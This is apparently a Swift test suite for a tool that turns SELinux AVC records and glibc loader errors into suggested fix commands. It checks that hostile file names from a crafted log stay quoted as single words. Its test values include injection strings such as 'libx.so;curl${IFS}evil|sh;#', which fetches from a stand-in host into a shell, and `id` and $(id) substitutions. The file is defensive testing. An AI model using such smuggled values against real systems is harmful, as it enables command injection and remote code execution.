import Foundation
import Testing
import TestSupport

/// Names from a crafted log reach every printed command as single words, end to end: glibc's
/// loader line names the library (and the program), hex-encoded `exe=` and `path=` fields name
/// what the records name, as the kernel writes them (audit_log_untrustedstring).
@Suite struct HostileCommandTests {
    static let values = ["libx.so;curl${IFS}evil|sh;#", "a|b&c", "a`id`b", "a$(id)b", "a'b\"c", "a*", "-rf", "a b",
                         "a\nb", "a\u{1b}[2Jb", "a\u{202e}os.b"]

    static func hex(_ s: String) -> String { s.utf8.map { String(format: "%02X", $0) }.joined() }

    /// What the kernel writes for a string it does not trust: quoted when plain, else hex.
    static func untrusted(_ s: String) -> String {
        s.unicodeScalars.allSatisfy { $0.value > 0x20 && $0.value < 0x7f && $0 != "\"" } ? "\"\(s)\"" : hex(s)
    }

    static func log() -> String {
        var lines: [String] = []
        for (i, v) in values.enumerated() where !v.contains(" ") && !v.contains("\n") {
            lines.append("prog\(i): error while loading shared libraries: /opt/lib/\(v): cannot enable executable stack as shared object requires: Permission denied")
            lines.append("/usr/bin/\(v): error while loading shared libraries: libq\(i).so: cannot enable executable stack as shared object requires: Permission denied")
        }
        let ctx = "system_u:system_r:unconfined_service_t:s0"
        for (i, v) in values.enumerated() {
            let stamp = "audit(1795770000.\(String(format: "%03d", i)):\(100 + i))"
            // execmem by a program not on this machine: commands to run where it is.
            lines.append("type=AVC msg=\(stamp): avc:  denied  { execmem } for  pid=\(500 + i) comm=\"p\(i)\" scontext=\(ctx) tcontext=\(ctx) tclass=process permissive=0")
            lines.append("type=SYSCALL msg=\(stamp): arch=c000003e syscall=9 success=no exit=-13 a0=0 a1=10000 a2=7 a3=22 items=0 ppid=1 pid=\(500 + i) auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"p\(i)\" exe=\(untrusted("/opt/x/" + v)) subj=\(ctx) key=(null)")
            lines.append("type=EOE msg=\(stamp): ")
            // execmod on a library file: semanage fcontext and restorecon for it.
            let stamp2 = "audit(1795770001.\(String(format: "%03d", i)):\(200 + i))"
            lines.append("type=AVC msg=\(stamp2): avc:  denied  { execmod } for  pid=\(600 + i) comm=\"q\(i)\" path=\(untrusted("/opt/lib/" + v)) dev=\"sda1\" ino=\(i + 1) scontext=\(ctx) tcontext=system_u:object_r:lib_t:s0 tclass=file permissive=0")
            lines.append("type=EOE msg=\(stamp2): ")
        }
        return lines.joined(separator: "\n") + "\n"
    }

    @Test func everyPrintedCommandParsesToTheNamedValues() throws {
        let empty = try TemporaryDirectory()
        let input = Self.log()
        let (result, report) = try Tool.json(["--sysroot", empty.path, "-"], input: input)
        #expect(result.status == 0, "\(result.stderr)")
        let text = try Tool.run(["--sysroot", empty.path, "-"], input: input).stdout
        let findings = Tool.findings(report)
        try #require(findings.count == 2 * Self.values.count + 2 * Self.values.filter { !$0.contains(" ") && !$0.contains("\n") }.count)

        func pathArgument(_ p: String) -> String { p.hasPrefix("-") ? "./" + p : p }
        var ran: [[String]] = []
        var omitted = 0
        for f in findings {
            let exe = (f["process"] as? [String: Any])?["exe"] as? String
            let culprits = Tool.culpritPaths(f)
            var lines = (f["commands_to_run"] as? [String] ?? [])
                + (f["fixes"] as? [[String: Any]] ?? []).flatMap { $0["commands"] as? [String] ?? [] }
                + (f["booleans"] as? [[String: Any]] ?? []).compactMap { $0["command"] as? String }
            lines += (f["evidence_needed"] as? [String] ?? []).filter { $0.hasPrefix("the AVC record: ") }.map { String($0.dropFirst(16)) }
            for line in lines {
                #expect(!line.unicodeScalars.contains { $0.value < 0x20 || (0x202a...0x202e).contains($0.value) }, "\(line.debugDescription)")
                if line.hasPrefix("# command omitted: ") || line.hasPrefix("(command omitted: ") {
                    omitted += 1
                    continue
                }
                #expect(text.contains(line), "text output prints the same line: \(line)")
                for argv in try PastedCommand.argvs(of: line) {
                    ran.append(argv)
                    switch argv[0] {
                    case "patchelf", "execstack", "restorecon":
                        #expect(culprits.map(pathArgument).contains(argv.last!), "\(argv) for \(culprits)")
                    case "readelf", "lddtree":
                        #expect(argv.last == exe.map(pathArgument), "\(argv) for \(exe ?? "-")")
                    case "ausearch":
                        #expect(argv.count == 8 && argv[6] == (f["process"] as? [String: Any])?["comm"] as? String, "\(argv)")
                    case "grep", "scanelf", "setsebool", "semanage":
                        continue
                    default:
                        Issue.record("an unexpected command: \(argv)")
                    }
                }
            }
        }
        // The hostile values arrived whole, each as one word.
        #expect(ran.contains(["patchelf", "--clear-execstack", "/opt/lib/libx.so;curl${IFS}evil|sh;#"]))
        #expect(ran.contains(["restorecon", "-v", "/opt/lib/a b"]))
        #expect(ran.contains(["lddtree", "/opt/x/a'b\"c"]))
        #expect(ran.contains(["ausearch", "-m", "avc", "-ts", "recent", "-c", "a`id`b", "--raw"]))
        // Newline, ESC and U+202E: each of their findings lists its commands as omitted.
        #expect(omitted >= 3 * 4)
    }
}
